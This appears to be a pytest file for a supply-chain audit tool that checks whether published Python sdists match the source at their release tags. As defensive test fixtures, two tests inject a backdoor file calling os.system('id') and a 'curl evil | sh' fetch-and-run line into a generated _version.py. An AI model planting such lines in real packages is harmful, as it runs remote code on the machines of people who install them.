"""`verifier audit` end to end on real sdists built from real tags (no container)."""

import json
from pathlib import Path

from tests.support.projects import PROJECTS, make_repo, set_upload_time, tamper


def audit(cli, repo: Path, version: str, index, *args: str) -> tuple[int, dict]:
    result = cli("audit", "--tag", version, "--repo", repo, "--index-url", index.url, "--json", "-", *args)
    return result.code, json.loads(result.stdout)


def by_status(report: dict, status: str) -> set[str]:
    return {f["path"] for f in report["files"] if f["status"] == status}


def test_clean_sdists_pass_for_every_backend(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    for backend, project in PROJECTS.items():
        repo = make_repo(project, tmp_path / backend)
        publisher.publish(repo, project.tag, index_dir, project)
        code, report = audit(cli, repo, project.version, local_index)
        assert code == 0, (backend, [f for f in report["files"] if f["status"] != "from-source"], report.get("error"))
        assert report["verdict"] == "from-source"
        assert by_status(report, "from-source"), backend
        pkg_info = [f for f in report["files"] if f["path"].endswith("/PKG-INFO")]
        assert pkg_info and all(f["status"] == "generated" for f in pkg_info), backend


def test_vcs_version_file_is_generated_and_checked(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    project = PROJECTS["hatchling"]
    repo = make_repo(project, tmp_path / "repo")
    publisher.publish(repo, project.tag, index_dir, project)
    code, report = audit(cli, repo, project.version, local_index)
    assert code == 0
    version_file = [f for f in report["files"] if f["path"].endswith("_version.py")]
    assert version_file and version_file[0]["status"] == "generated" and version_file[0]["generator"] == "VCS version plugin"


def test_injected_file_is_flagged_with_its_path(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    project = PROJECTS["hatchling"]
    repo = make_repo(project, tmp_path / "repo")
    publisher.publish(repo, project.tag, index_dir, project, dirty_files={"src/hatch_demo/_backdoor.py": "import os\nos.system('id')\n"})
    code, report = audit(cli, repo, project.version, local_index)
    assert code == 1
    assert report["verdict"] == "not-from-source"
    assert by_status(report, "not-from-source") == {"hatch_demo-0.3.1/src/hatch_demo/_backdoor.py"}


def test_injection_inside_a_generated_file_is_flagged(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    project = PROJECTS["hatchling"]
    repo = make_repo(project, tmp_path / "repo")
    published = publisher.publish(repo, project.tag, index_dir, project)
    tamper(published, "_version.py", b"__version__ = version = '0.3.1'\nimport os\nos.system('curl evil | sh')\n")
    set_upload_time(index_dir, published.name)
    code, report = audit(cli, repo, project.version, local_index)
    assert code == 1
    flagged = {f["path"]: f for f in report["files"] if f["status"] == "generated-inconsistent"}
    assert list(flagged) == ["hatch_demo-0.3.1/src/hatch_demo/_version.py"]


def test_modified_tracked_file_is_flagged(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    published = publisher.publish(repo, project.tag, index_dir, project)
    tamper(published, "flit_demo/__init__.py", b"def answer():\n    return 41\n")
    set_upload_time(index_dir, published.name)
    code, report = audit(cli, repo, project.version, local_index)
    assert code == 1
    finding = [f for f in report["files"] if f["status"] == "not-from-source"]
    assert [f["path"] for f in finding] == ["flit_demo-2.0.0/flit_demo/__init__.py"]
    assert "differs from flit_demo/__init__.py" in finding[0]["note"]


def test_leaving_out_tests_passes_with_the_omission_listed(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo", extra_files={"tests/test_it.py": "def test(): pass\n"})
    published = publisher.publish(repo, project.tag, index_dir, project)
    import tarfile

    with tarfile.open(published) as archive:
        assert not any("tests/" in name for name in archive.getnames())  # flit leaves tests/ out here
    code, report = audit(cli, repo, project.version, local_index)
    assert code == 0
    assert "tests/test_it.py" in report["omitted"]


def test_local_artifact_and_attestation(cli, publisher, index_dir: Path, local_index, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    published = publisher.publish(repo, project.tag, index_dir, project)
    statement_path = tmp_path / "audit.intoto.json"
    result = cli("audit", "--tag", project.version, "--repo", repo, "--artifact", published, "--attestation", statement_path)
    assert result.code == 0, result.stdout + result.stderr
    assert "FROM SOURCE" in result.stdout
    statement = json.loads(statement_path.read_text())
    assert statement["subject"] == [{"name": published.name, "digest": {"sha256": __import__("hashlib").sha256(published.read_bytes()).hexdigest()}}]
    assert statement["predicate"]["verdict"] == "from-source"
